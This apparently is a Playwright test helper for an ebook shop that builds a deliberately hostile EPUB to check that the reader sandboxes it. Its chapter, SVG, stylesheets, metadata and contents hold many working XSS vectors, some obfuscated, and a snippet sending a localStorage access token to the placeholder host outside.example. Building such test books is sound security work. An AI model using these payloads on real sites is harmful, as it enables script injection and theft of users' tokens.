/** A book that tries all that books have been known to try, each attempt under a name of its own. */
import { randomUUID } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import { ReadingPage } from '../pages/reading.page.ts';
import type { Shop } from './shop.ts';
import { writtenBook } from './written-book.ts';

/** Where whatever runs leaves its name: in its own window and in every window above it. */
export const RAN = 'octavoRan';

/** Where the attacks lead. No name server knows it. */
export const OUTSIDE = 'https://outside.example';

/** What a thief would look for. Whoever tries to read it must have run. */
export const TOKEN = 'access_token';

const PICTURE = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** An attempt after which the others of a chapter do not come to their turn, unless it is taken out. */
export type Ending = 'refresh' | 'transform' | 'policy of its own';

/** Statements without a character that markup would have to escape. */
const run = (name: string, more = ''): string =>
  `for (const w of [window, parent, top]) try { (w.${RAN} = w.${RAN} || []).push('${name}') } catch (e) {} try { new Image().src = '${OUTSIDE}/token/' + localStorage.getItem('${TOKEN}') } catch (e) {} ${more}`;

/** The drawing, as a page of its own and inside of a chapter. */
export function hostileDrawing(name = 'drawing'): string {
  const go = (what: string) => run(`${name}: ${what}`);
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${go('onload')}"><script>${go('script')}</script><a xlink:href="javascript:${go('link')}"><text y="9">s</text></a><image xlink:href="${OUTSIDE}/svg.png"/><use href="${OUTSIDE}/use.svg#a"/><style>text { fill: url(${OUTSIDE}/fill.svg#a) }</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${go('frame')}"></iframe></foreignObject><set attributeName="onload" to="${go('set')}"/><animate attributeName="href" values="javascript:${go('animate')}" onbegin="${go('onbegin')}"/></svg>`;
}

/** A style sheet that asks outside for all that a style sheet can ask for. */
export const hostileStyles = (name = 'css'): string =>
  `@import "${OUTSIDE}/${name}-import.css"; @import url(${OUTSIDE}/${name}-import2.css); @font-face { font-family: ${name}; src: url(${OUTSIDE}/${name}.woff2) } body { background: url("${OUTSIDE}/${name}-body.png"); font-family: ${name} } p::before { content: url(${OUTSIDE}/${name}-before.png) } i { background: image-set("${OUTSIDE}/${name}-set.png" 1x); cursor: u\\72l(${OUTSIDE}/${name}-escape.png), auto } p { behavior: url(x.htc) }`;

/** Each attempt of the chapter by its name: what stands in its head, and what in its body. */
function attempts(endings: readonly Ending[]): { head: Record<string, string>; body: Record<string, string> } {
  const written: Readonly<Record<Ending, string>> = {
    refresh: `<meta http-equiv="refresh" content="0;url=${OUTSIDE}/refresh"/>`,
    // A style sheet for markup puts what it makes, or a page of errors, in the place of the chapter. It stands before the root.
    transform: '',
    'policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *"/>`,
  };
  return {
    head: {
      base: `<base href="${OUTSIDE}/"/>`,
      'style sheet from outside': `<link rel="stylesheet" href="${OUTSIDE}/link.css"/>`,
      'style sheet of the book': `<link rel="stylesheet" href="hostile.css"/>`,
      'inline style sheet': `<style>${hostileStyles('inline')}</style>`,
      prefetch: `<link rel="prefetch" href="${OUTSIDE}/prefetch"/><link rel="dns-prefetch" href="${OUTSIDE}"/>`,
      preconnect: `<link rel="preconnect" href="${OUTSIDE}"/>`,
      'module preload': `<link rel="modulepreload" href="${OUTSIDE}/module.js"/>`,
      icon: `<link rel="icon" href="${OUTSIDE}/icon.png"/>`,
      'inline script': `<script>${run('inline script')}</script>`,
      'script of the book': `<script src="run.js"></script>`,
      'script from outside': `<script src="${OUTSIDE}/run.js"></script>`,
      'window.open': `<script>${run('window.open', `open('${OUTSIDE}/window');`)}</script>`,
      'top navigation': `<script>${run('top navigation', `try { top.location = '${OUTSIDE}/top' } catch (e) {}`)}</script>`,
      'service worker': `<script>${run('service worker', `try { navigator.serviceWorker.register('run.js') } catch (e) {}`)}</script>`,
      fetching: `<script>${run('fetching', `fetch('${OUTSIDE}/fetch'); navigator.sendBeacon('${OUTSIDE}/beacon');`)}</script>`,
      'message to the page': `<script>${run('message', `parent.postMessage({ type: 'octavo' }, '*');`)}</script>`,
      ...Object.fromEntries(endings.map((ending) => [ending, written[ending]])),
    },
    body: {
      'broken picture': `<img src="missing.png" onerror="${run('onerror')}" alt=""/>`,
      'picture from outside': `<img src="${OUTSIDE}/img.png" srcset="${OUTSIDE}/srcset.png 2x" alt=""/>`,
      'style attribute': `<p style="background:url(${OUTSIDE}/style.png)">styled</p>`,
      handlers: `<p onclick="${run('onclick')}" onmouseover="${run('onmouseover')}" onpointerdown="${run('onpointerdown')}">handled</p>`,
      'script link': `<p><a href="javascript:${run('script link')}">a link</a></p>`,
      'script link in disguise': `<p><a href=" java&#x9;script:${run('disguised link')}">another</a></p>`,
      'data link': `<p><a href="data:text/html,&lt;script&gt;${run('data link')}&lt;/script&gt;">a third</a></p>`,
      'link to the top': `<p><a href="vbscript:x" target="_top">a fourth</a></p>`,
      'link out of the book': `<p><a href="/../../api" ping="${OUTSIDE}/ping">a fifth</a></p>`,
      'script frame': `<iframe src="javascript:${run('script frame')}"></iframe>`,
      'written frame': `<iframe srcdoc="&lt;script&gt;${run('written frame')}&lt;/script&gt;"></iframe>`,
      'frame from outside': `<iframe src="${OUTSIDE}/frame"></iframe>`,
      'drawing as object': `<object data="hostile.svg" type="image/svg+xml"></object>`,
      'page as object': `<object data="data:text/html,&lt;script&gt;${run('page as object')}&lt;/script&gt;"></object>`,
      embed: `<embed src="${OUTSIDE}/embed"/>`,
      form: `<form action="${OUTSIDE}/form" method="get"><input name="q" autofocus="" onfocus="${run('onfocus')}"/><button>Send</button></form>`,
      'button with an address': `<form><button formaction="javascript:${run('formaction')}">Send</button></form>`,
      video: `<video src="${OUTSIDE}/video.mp4" poster="${OUTSIDE}/poster.png" autoplay=""></video>`,
      sound: `<audio src="${OUTSIDE}/audio.mp3" autoplay=""></audio>`,
      'opened details': `<details open="" ontoggle="${run('ontoggle')}"><summary>more</summary>less</details>`,
      'linked formula': `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:${run('maction')}" xmlns:xlink="http://www.w3.org/1999/xlink"><mi href="javascript:${run('formula')}">x</mi></maction></math>`,
      'drawing in the text': hostileDrawing('inner drawing'),
      'script in a switch': `<epub:switch><epub:default><script>${run('switch')}</script></epub:default></epub:switch>`,
    },
  };
}

/** A chapter that makes every attempt, as its maker wrote it. */
export function hostileChapter(endings: readonly Ending[] = []): string {
  const { head, body } = attempts(endings);
  const transform = endings.includes('transform') ? '<?xml-stylesheet type="text/xsl" href="run.xsl"?>' : '';
  return `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/css" href="${OUTSIDE}/pi.css"?>${transform}
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" onload="${run('onload')}">
<head><title>One</title>${Object.values(head).join('\n')}</head>
<body onload="${run('body onload')}" onpageshow="${run('onpageshow')}" background="${OUTSIDE}/background.png">
<h1>The hostile chapter</h1>
<p id="first">It was read in peace.</p>
${Object.values(body).join('\n')}
<p id="last">Nothing happened.</p>
</body></html>`;
}

/** The book as its maker wrote it tries everything. */
const EVERY_ENDING: readonly Ending[] = ['refresh', 'transform', 'policy of its own'];

/** How many ways the chapter of the book tries, besides what the book's own metadata and contents do. */
export function countAttempts(): number {
  const { head, body } = attempts(EVERY_ENDING);
  return Object.keys(head).length + Object.keys(body).length;
}

/** Brings a book like that into the shop, one that nobody has read in before, and gives its slug and what was said of it. */
export async function importHostileBook(shop: Shop): Promise<{ slug: string; output: string }> {
  const name = `Mallory ${randomUUID().slice(0, 8)}`;
  const bytes = await writtenBook(`Peace <img src=x onerror="${run('title')}">`, {
    creators: [{ name: `<script>${run('author')}</script>${name}` }],
    subjects: [`Fiction <img src=x onerror="${run('subject')}">`],
    description: `<p>Calm.</p><script>${run('description')}</script><img src="${OUTSIDE}/description.png" onerror="${run('description picture')}"><a href="javascript:${run('description link')}">link</a><form action="${OUTSIDE}"><button>b</button></form><base href="${OUTSIDE}/">`,
    documents: [
      { href: 'one.xhtml', content: hostileChapter(EVERY_ENDING) },
      { href: 'two.svg', mediaType: 'image/svg+xml', content: hostileDrawing() },
    ],
    resources: [
      { href: 'cover.gif', mediaType: 'image/gif', content: PICTURE, isCover: true },
      { href: 'run.js', mediaType: 'text/javascript', content: run('script of the book') },
      { href: 'run.xsl', mediaType: 'application/xslt+xml', content: '<x/>' },
      { href: 'hostile.svg', mediaType: 'image/svg+xml', content: hostileDrawing('object') },
      { href: 'hostile.css', mediaType: 'text/css', content: hostileStyles() },
    ],
    toc: [
      { title: `One <img src=x onerror="${run('contents')}">`, href: 'one.xhtml' },
      { title: 'Script', href: `javascript:${run('line of the contents')}` },
    ],
  });
  const file = join(shop.dataDir, `${name}.epub`);
  await writeFile(file, bytes);
  const { output, code } = await shop.catalog('import', file);
  expect(code, output).toBe(0);
  const query = encodeURIComponent(name.toLowerCase());
  const found: unknown = await (await fetch(`${shop.origin}/api/v1/products?search=${query}`)).json();
  expect(found).toEqual([expect.objectContaining({ slug: expect.any(String) })]);
  const [{ slug }] = found as [{ slug: string }];
  return { slug, output };
}

/** Looks at the contents, whose second line would run a script, and presses that line. */
export async function pressContents(page: Page): Promise<void> {
  const { frame } = new ReadingPage(page);
  await page.keyboard.press('c');
  const contents = frame.getByRole('dialog', { name: 'Contents' });
  await expect(contents.getByText(/^One <img src=x/)).toBeVisible();
  const line = contents.getByText('Script', { exact: true });
  await expect(line).toBeVisible();
  expect(await contents.locator('a, [href], [src], [onclick]').count()).toBe(0);
  await line.click({ force: true });
  await page.keyboard.press('Escape');
  await expect(contents).toBeHidden();
}
